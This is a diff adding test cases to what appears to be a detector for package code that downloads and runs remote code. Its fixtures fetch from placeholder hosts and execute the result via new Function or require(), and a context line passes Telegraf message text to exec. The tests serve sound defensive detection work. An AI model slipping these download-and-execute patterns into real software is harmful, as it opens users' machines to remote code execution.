@@ -6,6 +6,19 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'it is put into an element and taken out of it again',
+      files: {
+        'index.js': `fetch('https://a.invalid/x').then(answer => answer.text()).then(text => { const part = document.createElement('div'); part.innerHTML = text; new Function(part.querySelector('script').textContent)(); });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'it is saved as JSON or as code, and loaded',
+      files: {
+        'index.js': `const fs = require('fs'), path = require('path'); const at = path.join(process.cwd(), process.env.A ? 'a.json' : 'a.js'); exports.update = async () => { fs.writeFileSync(at, await (await fetch('https://r.invalid/x')).text()); return require(at); };`,
+      },
+    },
+    {
       when: 'one file saves a download in a folder that is known, and another starts what is there',
       files: {
         'index.js': `require('./save'); require('./start').start(process.argv[2])`,
@@ -399,6 +412,18 @@ const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.te
     },
   ],
   silent: [
+    {
+      when: 'versions that a registry lists are kept in settings of the project, which are read as JSON',
+      files: {
+        'index.js': `const fs = require('fs'), path = require('path'); const at = path.join(process.cwd(), 'a.json'); exports.update = async () => { const settings = require(at); settings.versions = await (await fetch('https://r.invalid/versions')).json(); fs.writeFileSync(at, JSON.stringify(settings)); return require(at); };`,
+      },
+    },
+    {
+      when: 'the network tells which part of a page is meant, and what stands there is run',
+      files: {
+        'index.js': `fetch('https://a.invalid/x').then(answer => answer.text()).then(id => { const part = document.querySelector('#' + id); new Function(part.textContent)(); });`,
+      },
+    },
     {
       when: 'one file saves a download below a folder it is told, and another loads something below one it is told',
       files: {
